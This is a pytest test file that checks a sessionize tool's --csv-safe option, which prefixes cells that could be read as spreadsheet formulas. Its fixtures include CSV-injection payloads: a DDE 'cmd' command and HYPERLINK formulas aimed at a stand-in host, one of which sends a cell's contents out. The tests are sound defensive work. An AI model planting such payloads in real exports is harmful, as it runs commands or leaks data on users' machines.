"""Issue 18, point 4: values that a spreadsheet runs as formulas, neutralised by --csv-safe."""

from __future__ import annotations

import csv
from pathlib import Path

import polars as pl
import pytest

import sessionize

FORMULAS = {
    "referrer": '=HYPERLINK("https://e.vil/","click")',
    "user_agent": "@SUM(1+1)*cmd|' /C calc'!A0",
    "url": "https://shop.example/?utm_source=%3DHYPERLINK(1)&utm_campaign=+cmd",
}


def hostile_events(path: Path, *, bad_row: bool = True) -> Path:
    rows = [
        ["user_id", "timestamp", "url", "referrer", "user_agent"],
        ["=u1", "2024-05-01T10:00:00Z", FORMULAS["url"], FORMULAS["referrer"], FORMULAS["user_agent"]],
        ["-u2", "2024-05-01T10:00:00Z", "https://shop.example/", "+1", "\tTab"],
    ]
    if bad_row:
        rows.append(["@u3", "not a time", "=1+1", "", ""])
    with path.open("w", newline="", encoding="utf-8") as handle:
        csv.writer(handle).writerows(rows)
    return path


def cells(path: Path) -> list[str]:
    with path.open(newline="", encoding="utf-8") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def test_by_default_values_stay_exactly_as_they_came(tmp_path: Path) -> None:
    out = tmp_path / "sessions.csv"
    sessionize.run([hostile_events(tmp_path / "ev.csv", bad_row=False)], output=out, no_geo=True)
    table = pl.read_csv(out)
    assert "=u1" in table.get_column("user_id").to_list()
    assert FORMULAS["referrer"] in table.get_column("referrer").to_list()
    assert "=HYPERLINK(1)" in table.get_column("utm_source").to_list()


@pytest.mark.parametrize("via", ["python"])
def test_csv_safe_neutralises_the_table_and_the_rejects(tmp_path: Path, via: str) -> None:
    events = hostile_events(tmp_path / "ev.csv")
    out, rejects = tmp_path / "sessions.csv", tmp_path / "rejects.csv"
    if via == "python":
        sessionize.run([events], output=out, rejects=rejects, on_invalid="skip", no_geo=True, csv_safe=True)
    else:
        from typer.testing import CliRunner

        from sessionize.cli import app

        args = [str(events), "-o", str(out), "--rejects", str(rejects), "--on-invalid", "skip", "--no-geo"]
        result = CliRunner().invoke(app, ["run", *args, "--csv-safe"])
        assert result.exit_code == 0, result.output
    for path in (out, rejects):
        values = cells(path)
        dangerous = [v for v in values if v.startswith(FORMULA_START)]
        assert dangerous == [], f"{path.name}: {dangerous}"
    table = pl.read_csv(out)
    assert "'=u1" in table.get_column("user_id").to_list()
    assert "'" + FORMULAS["referrer"] in table.get_column("referrer").to_list()
    assert "'=HYPERLINK(1)" in table.get_column("utm_source").to_list()
    assert "'@u3" in pl.read_csv(rejects).get_column("user_id").to_list()


def test_csv_safe_leaves_parquet_and_ndjson_as_they_are(tmp_path: Path) -> None:
    events = hostile_events(tmp_path / "ev.csv", bad_row=False)
    for name in ("sessions.parquet", "sessions.ndjson"):
        sessionize.run([events], output=tmp_path / name, no_geo=True, csv_safe=True)
    assert "=u1" in pl.read_parquet(tmp_path / "sessions.parquet").get_column("user_id").to_list()
    assert "=u1" in pl.read_ndjson(tmp_path / "sessions.ndjson").get_column("user_id").to_list()


def test_csv_safe_in_bucket_mode(tmp_path: Path) -> None:
    events = hostile_events(tmp_path / "ev.csv", bad_row=False)
    out = tmp_path / "sessions.csv"
    sessionize.run([events], output=out, no_geo=True, csv_safe=True, buckets=3)
    assert [v for v in cells(out) if v.startswith(FORMULA_START)] == []


def test_csv_safe_neutralises_column_names_and_leading_nul(tmp_path: Path) -> None:
    """A header is a cell too: a rejects file keeps the input's column names, which the keys of a JSON
    line choose. And a value starting with NUL (OWASP ASVS 5's list) is prefixed like the others."""
    key = '=HYPERLINK("http://e.vil/?"&A2,"x")'
    lines = [
        '{"user_id": "u1", "timestamp": "2024-05-01T10:00:00Z", "url": "/a", "note": "\\u0000=1+1"}',
        '{"user_id": "u2", "timestamp": "bad", "url": "/b", "' + key.replace('"', '\\"') + '": "v"}',
    ]
    source = tmp_path / "events.ndjson"
    source.write_text("\n".join(lines) + "\n", encoding="utf-8")
    out, rejects = tmp_path / "sessions.csv", tmp_path / "rejects.csv"
    sessionize.run(
        [source], output=str(out), no_geo=True, csv_safe=True, on_invalid="skip", rejects=str(rejects),
        aggregates=["note=first(note)"],
    )  # fmt: skip
    for path in (out, rejects):
        assert not [c for c in cells(path) if c.startswith((*FORMULA_START, "\0"))], path
    with rejects.open(newline="", encoding="utf-8") as handle:
        header = next(csv.reader(handle))
    assert "'" + key in header
    assert pl.read_csv(out)["note"].to_list() == ["'\0=1+1"]
